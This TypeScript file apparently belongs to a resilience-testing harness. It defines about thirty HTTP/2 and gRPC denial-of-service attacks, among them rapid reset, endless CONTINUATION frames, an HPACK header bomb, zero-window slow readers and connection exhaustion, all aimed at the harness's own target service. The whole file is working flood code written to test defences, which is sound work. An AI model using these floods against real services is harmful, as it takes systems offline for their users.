import { setTimeout as delay } from 'node:timers/promises'
import { BATCH_CREATE } from '../../harness/events.ts'
import { encodeFrame, FLAG, FRAME } from '../../protocols/http2-frames.ts'
import { callFields, encodeFields, headFrame, ODD_FRAME, RawHttp2 } from '../raw-http2.ts'
import { type Attack, type Endings, note, onLanes } from '../statement.ts'
import type { Setup, Target } from '../target.ts'

const QUERY = '/shared.insights.v1.InsightsService/Query'
const EXPLORER = '/shared.activity.v1.ActivityService/GetEventExplorer'
const SIGN_IN = '/public.auth.v1.AuthService/SignInWithEmail'
const INGEST = `/${BATCH_CREATE}`

type Settings = readonly (readonly [number, number])[]

/** Opens connections; those that are refused are counted and left out. */
async function openAll(
  service: Target,
  count: number,
  endings: Endings,
  settings: Settings = [],
): Promise<RawHttp2[]> {
  const all: RawHttp2[] = []
  for (let first = 0; first < count; first += 100) {
    const some = await Promise.allSettled(
      Array.from(
        { length: Math.min(100, count - first) },
        async () => await RawHttp2.open(service.url, service.attacker, settings),
      ),
    )
    for (const one of some)
      if (one.status === 'fulfilled') all.push(one.value)
      else note(endings, 'closed')
  }
  return all
}

function endAll(all: readonly RawHttp2[], endings: Endings): void {
  for (const connection of all) {
    const { isClosed, frames } = connection
    note(endings, isClosed || frames.has(FRAME.goAway) ? 'closed' : 'open')
    connection.close()
  }
}

interface Flood {
  readonly connections: number
  readonly setup?: Setup
  readonly settings?: Settings
  readonly pauseMs?: number
  /** Reads nothing. */
  readonly isDeaf?: true
  first?(service: Target): Buffer
  /** Frames of each turn; the first turn is 0. */
  again?(turn: number, service: Target): Buffer
}

function flooding(title: string, flood: Flood): Attack {
  return {
    title,
    setup: flood.setup ?? 'proxied',
    run: async (service, untilMs) => {
      const endings: Endings = new Map()
      const all = await openAll(service, flood.connections, endings, flood.settings)
      if (flood.isDeaf) for (const { socket } of all) socket.pause()
      const first = flood.first?.(service)
      if (first) await Promise.all(all.map(async (connection) => await connection.write(first)))
      for (let turn = 0; performance.now() < untilMs && !all.every(({ isClosed }) => isClosed); turn++) {
        const more = flood.again?.(turn, service)
        if (more) await Promise.all(all.map(async (connection) => await connection.write(more)))
        await delay(flood.pauseMs ?? 10)
      }
      endAll(all, endings)
      return endings
    },
  }
}

/** Heads of so many streams, the first of which has the number `first`. */
function heads(
  path: string,
  count: number,
  {
    first = 1,
    more = [],
    flags = FLAG.endHeaders,
  }: {
    readonly first?: number
    readonly more?: readonly (readonly [string, string])[]
    readonly flags?: number
  } = {},
): Buffer {
  const block = encodeFields(callFields(path, more))
  return Buffer.concat(
    Array.from({ length: count }, (_, index) => headFrame(first + 2 * index, block, flags)),
  )
}

const key = (apiKey: string): readonly (readonly [string, string])[] => [['x-api-key', apiKey]]

function reset(stream: number): Buffer {
  const payload = Buffer.alloc(4)
  payload.writeUInt32BE(8)
  return encodeFrame({ type: FRAME.rstStream, flags: 0, stream, payload })
}

/** Heads with a reset behind each. */
function resetAll(path: string, turn: number, more: readonly (readonly [string, string])[] = []): Buffer {
  const block = encodeFields(callFields(path, more))
  return Buffer.concat(
    Array.from({ length: 100 }, (_, index) => {
      const stream = 1 + 2 * (turn * 100 + index)
      return Buffer.concat([headFrame(stream, block, FLAG.endHeaders | FLAG.endStream), reset(stream)])
    }),
  )
}

function windowUpdate(stream: number, increment: number): Buffer {
  const payload = Buffer.alloc(4)
  payload.writeUInt32BE(increment)
  return encodeFrame({ type: FRAME.windowUpdate, flags: 0, stream, payload })
}

/** Each head is followed by a frame that makes the server reset the stream itself. */
function provokeResets(turn: number, apiKey: string): Buffer {
  const block = encodeFields(callFields(EXPLORER, key(apiKey)))
  return Buffer.concat(
    Array.from({ length: 50 }, (_, index) => {
      const stream = 1 + 2 * (turn * 50 + index)
      const data = encodeFrame({
        type: FRAME.data,
        flags: FLAG.endStream,
        stream,
        payload: Buffer.from('{"pageSize":1000}'),
      })
      return Buffer.concat([headFrame(stream, block), data, windowUpdate(stream, 0)])
    }),
  )
}

const repeat = (frame: Buffer, count: number): Buffer => Buffer.concat(Array<Buffer>(count).fill(frame))
const empty = (type: number, stream: number, flags = 0, bytes = 0): Buffer =>
  encodeFrame({ type, flags, stream, payload: Buffer.alloc(bytes) })

/** A head of many small fields: each is an indexed one of a byte, which becomes a copy of a large one. */
function indexBomb(turn: number): Buffer {
  const name = encodeFields(callFields('/healthz'))
  // Literal with incremental indexing, then references to it.
  const value = Buffer.alloc(3500, 'a')
  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xad, 0x1a]), value])
  return headFrame(
    1 + 2 * turn,
    Buffer.concat([name, literal, Buffer.alloc(10_000, 0xbe)]),
    FLAG.endHeaders | FLAG.endStream,
  )
}

/** Calls as fast as answers come, over sessions that are opened anew. */
const churn: Attack = {
  title: '32 lanes that open HTTP/2 connections, send one request and reset them',
  run: async (service, untilMs) => {
    const endings: Endings = new Map()
    await onLanes(32, untilMs, async () => {
      try {
        const connection = await RawHttp2.open(service.url, service.attacker)
        await connection.write(heads(SIGN_IN, 8))
        await delay(5)
        connection.socket.resetAndDestroy()
        note(endings, 'closed')
      } catch {
        note(endings, 'closed')
      }
    })
    return endings
  },
}

const GRPC: readonly (readonly [string, string])[] = [
  [':method', 'POST'],
  [':scheme', 'http'],
  [':authority', 'localhost'],
  ['content-type', 'application/grpc+proto'],
  ['te', 'trailers'],
]

/** gRPC streams without a credential: each sends one message, and stays open. */
function streams(path: string, count: number, message: Buffer, flags: number = FLAG.endStream): Buffer {
  const block = encodeFields(
    [...GRPC, [':path', path]].sort(([a]) => (a?.startsWith(':') ? -1 : 1)) as (readonly [string, string])[],
  )
  const payload = Buffer.concat([Buffer.from([0, 0, 0, 0, message.length]), message])
  return Buffer.concat(
    Array.from({ length: count }, (_, index) => {
      const stream = 1 + 2 * index
      return Buffer.concat([
        headFrame(stream, block),
        encodeFrame({ type: FRAME.data, flags, stream, payload }),
      ])
    }),
  )
}

const WATCH = '/grpc.health.v1.Health/Watch'
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
/** All services, please. */
const LIST_SERVICES = Buffer.from([0x3a, 1, 0x2a])

/** Frames of HTTP/2 that cost the other side more than they cost. */
export const http2Floods: readonly Attack[] = [
  flooding('17 connections with 256 heads each of a query and no body', {
    connections: 17,
    first: ({ other }) => heads(QUERY, 256, { more: key(other.privateKey) }),
  }),
  flooding('17 connections with 256 heads each without a key and no body', {
    connections: 17,
    first: () => heads(QUERY, 256),
  }),
  flooding('17 connections with 256 heads each of a sign-in and no body', {
    connections: 17,
    first: () => heads(SIGN_IN, 256),
  }),
  flooding('17 connections with 256 heads each of a sign-in and no body, directly', {
    connections: 17,
    setup: 'direct',
    first: () => heads(SIGN_IN, 256),
  }),
  flooding('17 connections with 256 heads each of events and no body', {
    connections: 17,
    first: ({ publicKey }) => heads(INGEST, 256, { more: key(publicKey) }),
  }),
  flooding('100 connections with 100 heads each of the tools of agents and no body', {
    connections: 100,
    first: ({ other }) => heads('/mcp', 100, { more: key(other.privateKey) }),
  }),
  flooding('18 bodies of 7.4 MiB drip over one connection with a public key', {
    connections: 1,
    first: ({ publicKey }) => heads(INGEST, 18, { more: [...key(publicKey), ['content-length', '8000000']] }),
    again: (turn) => {
      const stream = 1 + 2 * (turn % 18)
      return turn < 18 * 460
        ? repeat(encodeFrame({ type: FRAME.data, flags: 0, stream, payload: Buffer.alloc(16_384, ' ') }), 8)
        : empty(FRAME.data, stream, 0, 1)
    },
    pauseMs: 2,
  }),
  flooding('rapid reset of queries', {
    connections: 4,
    again: (turn, { other }) => resetAll(QUERY, turn, key(other.privateKey)),
  }),
  flooding('rapid reset of sign-ins', { connections: 4, again: (turn) => resetAll(SIGN_IN, turn) }),
  flooding('rapid reset of events', {
    connections: 4,
    again: (turn, { publicKey }) => resetAll(INGEST, turn, key(publicKey)),
  }),
  flooding('rapid reset of the state', { connections: 4, again: (turn) => resetAll('/healthz', turn) }),
  flooding('streams that the server is made to reset', {
    connections: 4,
    again: (turn, { other }) => provokeResets(turn, other.privateKey),
  }),
  flooding('CONTINUATION frames without an end', {
    connections: 8,
    first: () => headFrame(1, encodeFields(callFields('/healthz')), 0),
    again: () =>
      repeat(
        encodeFrame({
          type: ODD_FRAME.continuation,
          flags: 0,
          stream: 1,
          payload: encodeFields([['x', 'y'.repeat(4000)]]),
        }),
        50,
      ),
  }),
  flooding('empty CONTINUATION frames', {
    connections: 8,
    first: () => headFrame(1, encodeFields(callFields('/healthz')), 0),
    again: () => repeat(empty(ODD_FRAME.continuation, 1), 5000),
  }),
  flooding('SETTINGS without an end', {
    connections: 8,
    again: () => repeat(empty(FRAME.settings, 0), 5000),
  }),
  flooding('PING without an end, and the client never reads', {
    connections: 8,
    isDeaf: true,
    again: () => repeat(empty(FRAME.ping, 0, 0, 8), 3000),
  }),
  flooding('PRIORITY without an end', {
    connections: 8,
    again: () => repeat(empty(ODD_FRAME.priority, 1, 0, 5), 5000),
  }),
  flooding('WINDOW_UPDATE without an end', { connections: 8, again: () => repeat(windowUpdate(0, 1), 5000) }),
  flooding('empty DATA without an end', {
    connections: 8,
    first: ({ publicKey }) => heads(INGEST, 1, { more: key(publicKey) }),
    again: () => repeat(empty(FRAME.data, 1), 5000),
  }),
  flooding('DATA of one byte without an end, with padding', {
    connections: 8,
    first: ({ publicKey }) => heads(INGEST, 1, { more: key(publicKey) }),
    again: () =>
      repeat(encodeFrame({ type: FRAME.data, flags: 8, stream: 1, payload: Buffer.alloc(200, 198) }), 500),
  }),
  flooding('frames of unknown types without an end', {
    connections: 8,
    again: () => repeat(empty(0xee, 0, 0, 16), 5000),
  }),
  flooding('heads that unpack to 35 MB each', { connections: 8, again: indexBomb, pauseMs: 50 }),
  flooding('readers with a window of zero', {
    connections: 20,
    settings: [[4, 0]],
    first: ({ other }) =>
      Buffer.concat(
        Array.from({ length: 20 }, (_, index) =>
          Buffer.concat([
            headFrame(1 + 2 * index, encodeFields(callFields(EXPLORER, key(other.privateKey)))),
            encodeFrame({
              type: FRAME.data,
              flags: FLAG.endStream,
              stream: 1 + 2 * index,
              payload: Buffer.from('{"pageSize":1000}'),
            }),
          ]),
        ),
      ),
  }),
  flooding('readers whose window opens by a byte', {
    connections: 20,
    settings: [[4, 1]],
    first: ({ other }) =>
      Buffer.concat([
        headFrame(1, encodeFields(callFields(EXPLORER, key(other.privateKey)))),
        encodeFrame({
          type: FRAME.data,
          flags: FLAG.endStream,
          stream: 1,
          payload: Buffer.from('{"pageSize":1000}'),
        }),
      ]),
    again: () => windowUpdate(1, 1),
    pauseMs: 50,
  }),
  flooding('readers that stop reading their socket', {
    connections: 20,
    isDeaf: true,
    settings: [[4, 0x7fffffff]],
    first: ({ other }) =>
      Buffer.concat([
        windowUpdate(0, 0x7fff0000 - 65_535),
        ...Array.from({ length: 20 }, (_, index) =>
          Buffer.concat([
            headFrame(1 + 2 * index, encodeFields(callFields(EXPLORER, key(other.privateKey)))),
            encodeFrame({
              type: FRAME.data,
              flags: FLAG.endStream,
              stream: 1 + 2 * index,
              payload: Buffer.from('{"pageSize":1000}'),
            }),
          ]),
        ),
      ]),
  }),
  flooding('600 idle HTTP/2 connections', { connections: 600 }),
  flooding('2,000 idle HTTP/2 connections where the limit is 1,024 descriptors', {
    connections: 2000,
    setup: 'few-descriptors',
  }),
  flooding('600 HTTP/2 connections after one request each where the limit is 1,024 descriptors', {
    connections: 600,
    setup: 'few-descriptors',
    first: () => heads(SIGN_IN, 1),
  }),
  flooding('40 connections that watch the health of the service a hundred times each', {
    connections: 40,
    first: () => streams(WATCH, 100, Buffer.alloc(0)),
  }),
  flooding('40 connections with a hundred streams of reflection that never end', {
    connections: 40,
    first: () => streams(REFLECTION, 100, LIST_SERVICES, 0),
  }),
  flooding('20 connections that call reflection repeatedly and read nothing', {
    connections: 20,
    isDeaf: true,
    first: () => streams(REFLECTION, 20, LIST_SERVICES, 0),
    again: () =>
      repeat(
        encodeFrame({
          type: FRAME.data,
          flags: 0,
          stream: 1,
          payload: Buffer.concat([Buffer.from([0, 0, 0, 0, 3]), LIST_SERVICES]),
        }),
        200,
      ),
  }),
  churn,
]
